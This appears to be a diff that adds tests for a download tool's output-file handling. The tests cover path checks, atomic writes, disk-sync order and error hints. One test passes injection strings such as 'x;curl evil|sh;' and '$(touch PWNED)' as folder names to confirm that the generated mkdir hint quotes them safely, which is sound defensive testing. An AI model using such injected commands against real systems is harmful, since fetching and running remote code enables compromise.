@@ -1,0 +1,229 @@
+import { execFileSync } from 'node:child_process';
+import { chmod, mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import type { SafePath } from '../../../src/platform/files/safe-path.ts';
+import { createPathError, createWriteError, hasExistingFile } from '../../../src/service/http/output-path.ts';
+import { createPartialFile } from '../../../src/service/http/partial-file.ts';
+import { folder, join } from '../../support/folder.ts';
+import { host } from '../../support/host.ts';
+import { syncedIn } from '../../support/synced.ts';
+
+const facts = { ...host, random: Math.random };
+const bytes = (text: string) => new TextEncoder().encode(text);
+const begin = (path: SafePath, replace = false) => createPartialFile(path, 'shown', replace, facts);
+
+describe('a place for a file', () => {
+  it('is free, or holds a file', async () => {
+    const at = folder();
+    expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(false);
+    await writeFile(join(at, 'a'), '');
+    expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(true);
+  });
+
+  it.each([
+    ['a folder', 'is a folder', (path: string) => mkdir(path)],
+    ['a link', 'symbolic link', (path: string) => symlink('/etc/passwd', path)],
+    ['a link to nothing', 'symbolic link', (path: string) => symlink('/nowhere', path)],
+    ['a pipe', 'not an ordinary file', async (path: string) => void execFileSync('mkfifo', [path])],
+  ])('is never %s', async (_, words, make) => {
+    const path = join(folder(), 'x');
+    await make(path);
+    await expect(hasExistingFile(path, 'x')).rejects.toMatchObject({
+      exit: 2,
+      message: expect.stringContaining(words),
+    });
+  });
+
+  it.each(['x;curl evil|sh;', '$(touch PWNED)', "it's", '-rf'])(
+    'in a folder %s that does not exist is made by a command that holds one word of it',
+    async (name) => {
+      const at = folder();
+      const error = await hasExistingFile(join(at, name, 'x'), `${name}/x`).catch(
+        (caught: unknown) => caught,
+      );
+      const { hint } = error as { readonly hint: string };
+      expect(hint).toMatch(/^mkdir -p /);
+      const words = execFileSync('sh', ['-c', `printf '%s\\n' ${hint}`], { cwd: at, encoding: 'utf8' });
+      expect(words.split('\n').slice(2)).toStrictEqual([name, '']);
+      expect(await readdir(at)).toStrictEqual([]);
+    },
+  );
+
+  it('has a folder and a name that the disk takes', async () => {
+    const at = folder();
+    await expect(hasExistingFile(join(at, 'no', 'x'), 'no/x')).rejects.toMatchObject({
+      exit: 2,
+      code: 'no_folder',
+    });
+    await writeFile(join(at, 'file'), '');
+    await expect(hasExistingFile(join(at, 'file', 'x'), 'x')).rejects.toMatchObject({
+      exit: 2,
+      message: expect.stringContaining('not a folder'),
+      hint: expect.stringContaining('name another place'),
+    });
+    await expect(hasExistingFile(join(at, 'a'.repeat(256)), 'x')).rejects.toMatchObject({
+      exit: 2,
+      message: expect.stringContaining('too long'),
+      hint: expect.stringContaining('shorter'),
+    });
+  });
+});
+
+describe('a place where nothing can be written', () => {
+  it.skipIf(process.getuid?.() === 0)('says who may', async () => {
+    const at = folder();
+    await chmod(at, 0o500);
+    onTestFinished(() => chmod(at, 0o700));
+    await expect(createPartialFile(join(at, 'x'), 'out/x', false, facts)).rejects.toMatchObject({
+      exit: 2,
+      message: 'out/x cannot be written: permission denied',
+      hint: 'see who may write there: ls -ld out',
+    });
+  });
+
+  it.each([
+    ['EACCES', 'permission denied', 'ls -ld out'],
+    ['EROFS', 'read-only', 'can be written to'],
+    ['ENOSPC', 'no space', 'make room'],
+    ['EDQUOT', 'quota', 'make room'],
+    ['ENAMETOOLONG', 'too long', 'shorter'],
+    ['ENOTDIR', 'not a folder', 'name another place'],
+    ['EWHATEVER', 'EWHATEVER', 'name another place with -o'],
+  ])('%s is told with what to do, before and after anything was sent', (code, words, hint) => {
+    const error = Object.assign(new Error(), { code });
+    for (const told of [createPathError('out/x', error), createWriteError('out/x', error)]) {
+      expect(told.message).toContain(words);
+      expect(told.hint).toContain(hint);
+    }
+  });
+});
+
+describe('a file that is being made', () => {
+  it('has its name only when it is whole, and the mode of the user', async () => {
+    const at = folder();
+    const path = join(at, `${'n'.repeat(251)}.svg`);
+    const landing = await begin(path);
+    await landing.sink.write(bytes('one '));
+    await landing.sink.write(bytes('two'));
+    expect((await readdir(at)).filter((name) => name.endsWith('.svg'))).toStrictEqual([]);
+    await landing.commit();
+    expect(await readFile(path, 'utf8')).toBe('one two');
+    expect(await readdir(at)).toHaveLength(1);
+    expect((await stat(path)).mode & 0o777).toBe(0o666 & ~process.umask());
+    await landing.discard();
+    expect(await readFile(path, 'utf8')).toBe('one two');
+  });
+
+  it('outlives a power cut once it has its name: it and its folder are synced, in that order', async () => {
+    const at = folder();
+    const landing = await begin(join(at, 'x'));
+    const synced = await syncedIn(at);
+    await landing.sink.write(bytes('all'));
+    await landing.commit();
+    expect(synced).toStrictEqual(['3 bytes', 'folder of x']);
+  });
+
+  it('says so where the disk failed to make its name last', async () => {
+    const at = folder();
+    const landing = await begin(join(at, 'x'));
+    await syncedIn(at, 'EIO');
+    await landing.sink.write(bytes('all'));
+    expect(await landing.commit()).toBe(
+      'shown is written, and a power cut may undo that: the disk reports an error',
+    );
+    expect(await readFile(join(at, 'x'), 'utf8')).toBe('all');
+  });
+
+  it('takes another name for its draft where chance made one that is there', async () => {
+    const at = folder();
+    const alike = { ...facts, alive: () => true, now: () => 0 };
+    let turn = 0;
+    const first = await createPartialFile(join(at, 'x'), 'x', false, { ...alike, random: () => 0.5 });
+    const second = await createPartialFile(join(at, 'x'), 'x', false, {
+      ...alike,
+      random: () => (turn++ === 0 ? 0.5 : 0.25),
+    });
+    onTestFinished(async () => {
+      await first.discard();
+      await second.discard();
+    });
+    expect(await readdir(at)).toHaveLength(2);
+  });
+
+  it('starts over', async () => {
+    const path = join(folder(), 'x');
+    const landing = await begin(path);
+    await landing.sink.write(new Uint8Array(3_000_000));
+    expect(await landing.sink.startOver()).toBe(true);
+    await landing.sink.write(bytes('new'));
+    await landing.commit();
+    expect(await readFile(path, 'utf8')).toBe('new');
+  });
+
+  it('leaves nothing when it is dropped', async () => {
+    const at = folder();
+    const landing = await begin(join(at, 'x'));
+    await landing.sink.write(bytes('half'));
+    await landing.discard();
+    expect(await readdir(at)).toStrictEqual([]);
+  });
+
+  it('takes no name that was taken meanwhile, unless it may replace', async () => {
+    const at = folder();
+    const path = join(at, 'x');
+    const landing = await begin(path);
+    await writeFile(path, 'theirs');
+    await expect(landing.commit()).rejects.toMatchObject({ exit: 1, code: 'file_exists' });
+    await landing.discard();
+    expect(await readFile(path, 'utf8')).toBe('theirs');
+    const other = await begin(path, true);
+    await other.sink.write(bytes('mine'));
+    await other.commit();
+    expect(await readFile(path, 'utf8')).toBe('mine');
+    expect(await readdir(at)).toStrictEqual(['x']);
+  });
+
+  it('replaces no link that came to stand there', async () => {
+    const path = join(folder(), 'x');
+    const landing = await begin(path, true);
+    await symlink('/etc/passwd', path);
+    await expect(landing.commit()).rejects.toMatchObject({ exit: 1, code: 'not_a_file' });
+    await landing.discard();
+  });
+
+  it('clears away what a killed download to the same name left, and nothing else', async () => {
+    const at = folder();
+    const dead = { ...facts, pid: 4_000_000 };
+    for (const name of ['x', 'other']) {
+      const killed = await createPartialFile(join(at, name), name, false, dead);
+      onTestFinished(() => killed.discard());
+    }
+    const mine = await begin(join(at, 'x'));
+    const names = await readdir(at);
+    expect(names).toHaveLength(2);
+    expect(names.some((name) => name.includes(`-${process.pid}-`))).toBe(true);
+    await mine.discard();
+  });
+
+  it('asks for room first', async () => {
+    const landing = await begin(join(folder(), 'x'));
+    onTestFinished(() => landing.discard());
+    await expect(landing.checkFreeSpace(2 ** 60)).rejects.toMatchObject({ code: 'no_space', exit: 1 });
+    await landing.checkFreeSpace(1);
+  });
+
+  it('says that the disk is full', async ({ skip }) => {
+    const at = folder();
+    try {
+      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', at], { stdio: 'ignore' });
+    } catch {
+      skip('nothing may be mounted here: run it as root, outside of a container without CAP_SYS_ADMIN');
+    }
+    onTestFinished(() => void execFileSync('umount', [at]));
+    const landing = await begin(join(at, 'x'));
+    const filling = landing.sink.write(new Uint8Array(2_000_000)).then(() => landing.commit());
+    await expect(filling).rejects.toMatchObject({ code: 'no_space', exit: 1 });
+    await landing.discard();
+    expect(await readdir(at)).toStrictEqual([]);
+  });
+});
